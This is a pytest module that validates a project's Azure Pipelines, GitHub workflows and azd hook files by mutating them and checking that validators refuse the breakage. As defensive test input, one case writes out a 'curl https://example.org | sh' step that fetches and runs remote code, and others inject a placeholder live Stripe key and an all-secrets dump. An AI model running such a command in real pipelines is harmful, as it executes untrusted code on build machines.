"""Pipelines, workflows and azd's hooks: well-formed, all they name exists, and they deliver by the same commands."""

from pathlib import Path
from typing import Any, Final

import pytest
from jsonschema import Draft7Validator

from local.package import ROOT
from tests.infra import azure_pipelines, commands, github_workflows
from tests.infra.azure_pipelines import GIVEN, Files, jobs
from tests.infra.expressions import ExpressionRefused, used
from tests.infra.github_workflows import Workflows
from tests.infra.yamls import of_file, read

PIPELINE: Final = Files.below(ROOT)
WORKFLOWS: Final = Workflows.below(ROOT)
ROOT_FILE, SETUP = "azure-pipelines.yml", "pipelines/setup.yml"
DEPLOYING, PLANNING = "pipelines/deploy.yml", "pipelines/what-if.yml"
DELIVER, CALLED = "./.github/workflows/deliver.yml", "./.github/workflows/deploy.yml"
OF_FORM: Final = frozenset({"pools", "steps[1].task", "$.jobs"})  # what the published schemas say

HOOK: Final = {
    "type": "object",
    "required": ["run"],
    "additionalProperties": False,
    "properties": {
        "shell": {"enum": ["sh", "pwsh"]},
        "run": {"type": "string", "minLength": 1},
        "continueOnError": {"type": "boolean"},
        "interactive": {"type": "boolean"},
    },
}
COMMANDS_OF_AZD: Final = ("up", "down", "provision", "deploy", "package", "restore", "build", "publish")
# Of https://raw.githubusercontent.com/Azure/azure-dev/main/schemas/v1.0/azure.yaml.json, what we use; nothing else.
AZD: Final = {
    "type": "object",
    "required": ["name", "infra", "hooks"],
    "additionalProperties": False,
    "properties": {
        "name": {"type": "string", "minLength": 2, "pattern": "^[a-z0-9]([-a-z0-9]*[a-z0-9])?$"},
        "requiredVersions": {
            "type": "object", "properties": {"azd": {"type": "string"}}, "additionalProperties": False,
        },
        "infra": {
            "type": "object",
            "additionalProperties": False,
            "properties": {
                "provider": {"enum": ["bicep", "terraform"]}, "path": {"type": "string"}, "module": {"type": "string"},
            },
        },
        "hooks": {
            "type": "object",
            "additionalProperties": False,
            "properties": {f"{when}{what}": HOOK for when in ("pre", "post") for what in COMMANDS_OF_AZD},
        },
    },
}  # fmt: skip


def changed(path: str, old: str, new: str) -> Files:
    assert old in PIPELINE.texts[path], f"{path} has no {old!r} to break"
    return Files({**PIPELINE.texts, path: PIPELINE.texts[path].replace(old, new, 1)})


def changed_workflow(path: str, old: str, new: str) -> Workflows:
    assert old in WORKFLOWS.texts[path], f"{path} has no {old!r} to break"
    return Workflows({**WORKFLOWS.texts, path: WORKFLOWS.texts[path].replace(old, new, 1)})


def test_the_pipeline_is_well_formed_and_all_it_names_is_there() -> None:
    assert azure_pipelines.problems(PIPELINE) == []
    assert len(jobs(PIPELINE)) == 13


@pytest.mark.parametrize(
    ("path", "old", "new", "said"),
    [
        (ROOT_FILE, "dependsOn: [Check, Test]", "dependsOn: [Check, Tests]", "waits for Tests, which is not there"),
        (PLANNING, "dependsOn: Package", "dependsOn: Prod", "stages wait for each other"),
        (DEPLOYING, "dependsOn: infrastructure", "dependsOn: infra", "waits for infra, which is not there"),
        (ROOT_FILE, "condition: succeeded()", "condition: succeed()", "there is no function succeed"),
        (ROOT_FILE, "condition: always()", "condition: always", "always is neither a function nor known"),
        (PLANNING, "and(succeeded(), eq(", "and(eq(", "and takes 2 or more arguments, not 1"),
        (PLANNING, "'refs/heads/main'))", "'refs/heads/main')", "is not closed"),
        (ROOT_FILE, "condition: succeeded()", "condition: succeeded('Tset')", "there is no Tset"),
        (ROOT_FILE, "template: pipelines/setup.yml", "template: pipelines/set-up.yml", "there is no template"),
        (ROOT_FILE, "      stage: Dev\n", "      stages: Dev\n", "has no parameter stages"),
        (ROOT_FILE, "{ environment: dev, stage: PlanDev }", "{ environment: dev }", "needs stage"),
        (ROOT_FILE, "{ environment: dev, ", "{ environment: test, ", "takes no test for environment"),
        (DEPLOYING, "${{ parameters.after }}", "${{ parameters.before }}", "uses a parameter before that it does not"),
        (DEPLOYING, "tools.delivery publish --environment", "tools.delivery publish --zip", "No such option: --zip"),
        (DEPLOYING, "tools.delivery rollback", "tools.delivery roll-back", "has no command roll-back"),
        (DEPLOYING, "delivery vault --environment ${{ parameters.environment }}", "delivery vault", "environment"),
        (ROOT_FILE, "make contract", "make contracts", "the Makefile has no contracts"),
        (ROOT_FILE, "- script: make check", "- script: curl https://example.org | sh", "is no command we know"),
        (ROOT_FILE, "        timeoutInMinutes: 60\n", "", "job emulators has no time after which it is ended"),
        (ROOT_FILE, "pool:\n", "pools:\n", "pools"),
        (SETUP, "versionSpec:", "versionSpecs:", "steps[1].task"),
        (SETUP, "UsePythonVersion@0", "UsePythonVersions@0", "steps[1].task"),
        (SETUP, "PIP_CACHE_DIR: $(Pipeline.Workspace)/.pip", "STRIPE_API_KEY: sk_live_1", "secret STRIPE_API_KEY"),
    ],
)  # fmt: skip
def test_a_pipeline_that_is_broken_in_one_place_is_refused(path: str, old: str, new: str, said: str) -> None:
    found = azure_pipelines.problems(changed(path, old, new), form=said in OF_FORM)

    assert any(said in each for each in found), found


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("and(succeeded(), eq(variables['Build.SourceBranch'], 'refs/heads/main'))", ["and", "succeeded", "eq"]),
        ("not(or(failed('A'), in(variables.x, 'a', 'it''s')))", ["not", "or", "failed", "in"]),
        ("eq(dependencies.A.outputs['x'], 1.5)", ["eq"]),
        ("true", []),
    ],
)
def test_expressions_are_read(text: str, names: list[str]) -> None:
    assert [use.name for use in used(text)] == names


@pytest.mark.parametrize(
    "text", ["", "and(", "eq(1,2", "eq(1,2))", "eq(1 2)", "nothing", "eq(,1)", "variables['x'", "§"]
)
def test_what_is_no_expression_is_refused(text: str) -> None:
    with pytest.raises(ExpressionRefused):
        used(text)


def test_the_workflows_are_well_formed_and_all_they_name_is_there() -> None:
    assert github_workflows.problems(WORKFLOWS) == []


@pytest.mark.parametrize(
    ("path", "old", "new", "said"),
    [
        (DELIVER, "needs: package", "needs: packages", "needs packages, which is not there"),
        (DELIVER, "@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0", "@v4", "not pinned to a commit"),
        (DELIVER, "uses: ./.github/actions/setup", "uses: ./.github/actions/set-up", "which is not there"),
        (DELIVER, "uses: ./.github/workflows/deploy.yml", "uses: ./.github/workflows/depoly.yml", "which is not there"),
        (DELIVER, "with: { environment: dev }", "with: { stage: dev }", "has no input stage"),
        (DELIVER, "    timeout-minutes: 20\n", "", "job check has no time after which it is ended"),
        (DELIVER, "run: make check", "run: make chekc", "the Makefile has no chekc"),
        (CALLED, "toJSON(vars)", "toJSON(secrets.ALL)", "has a secret"),
        (DELIVER, "github.ref == 'refs", "github_ref == 'refs", "github_ref in"),
        (DELIVER, "if: always()", "if: allways()", "allways() in"),
        (DELIVER, "permissions:\n  contents: read\n", "", "does not say what it may do"),
        (DELIVER, "runs-on: ubuntu-24.04", "run-on: ubuntu-24.04", "$.jobs"),
        (CALLED, "smoke --environment", "smoke --zip", "No such option: --zip"),
        (CALLED, "needs.package.result == 'f", "steps.package.result == 'f", "asks for package of steps"),
    ],
)  # fmt: skip
def test_a_workflow_that_is_broken_in_one_place_is_refused(path: str, old: str, new: str, said: str) -> None:
    found = github_workflows.problems(changed_workflow(path, old, new), form=said in OF_FORM)

    assert any(said in each for each in found), found


def test_what_a_run_keeps_may_be_kept_again_when_a_job_is_run_again() -> None:
    """GitHub refuses a second artifact of a name within a run, and a smoke test that failed has kept one."""
    steps = [step for workflow in WORKFLOWS.workflows.values() for job in workflow["jobs"].values()
             for step in job.get("steps", [])]  # fmt: skip
    kept = {step["with"]["name"]: step["with"].get("overwrite") for step in steps if "upload" in step.get("uses", "")}

    assert len(kept) == 4
    assert {name for name, again in kept.items() if again is not True} == set()


def azd(text: str) -> list[str]:
    """What is wrong with azure.yaml."""
    document: Any = read(text)
    found = [f"{error.json_path}: {error.message}" for error in Draft7Validator(AZD).iter_errors(document)]
    infra = document.get("infra", {})
    if not (ROOT / infra.get("path", "infra") / f"{infra.get('module', 'main')}.bicep").exists():
        found.append(f"there is no {infra}")
    environment = {**GIVEN, "AZURE_ENV_NAME": "dev"}  # azd tells its hooks
    return found + [
        each
        for hook in document.get("hooks", {}).values()
        for each in commands.refusals(hook.get("run", ""), environment)
    ]


def test_azds_file_is_well_formed_and_all_it_names_is_there() -> None:
    text = (ROOT / "azure.yaml").read_text()
    hooks = read(text)["hooks"]

    assert azd(text) == []
    assert {
        name: [commands.named(line) for line in commands.commands(hook["run"])] for name, hook in hooks.items()
    } == {
        "preprovision": ["make setup", "delivery vault", "delivery secrets"],
        "postprovision": ["make package", "delivery publish"],
        "postup": ["delivery smoke"],
    }


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("preprovision:", "beforeprovision:", "$.hooks"),
        ("shell: sh", "shell: fish", "$.hooks.preprovision.shell"),
        ("module: main", "module: mian", "there is no"),
        ("tools.delivery publish", "tools.delivery publsh", "has no command publsh"),
        ("name: tessera", "name: Tessera", "$.name"),
    ],
)
def test_an_azd_file_that_is_broken_in_one_place_is_refused(old: str, new: str, said: str) -> None:
    text = (ROOT / "azure.yaml").read_text()
    assert old in text

    found = azd(text.replace(old, new, 1))

    assert any(said in each for each in found), found


def test_workflow_files_are_read_as_yaml_of_today() -> None:
    """`on` would be `true` to a reader of YAML 1.1."""
    assert "on" in of_file(ROOT / ".github" / "workflows" / "deliver.yml")
    assert Path(ROOT / ".github" / "workflows").is_dir()
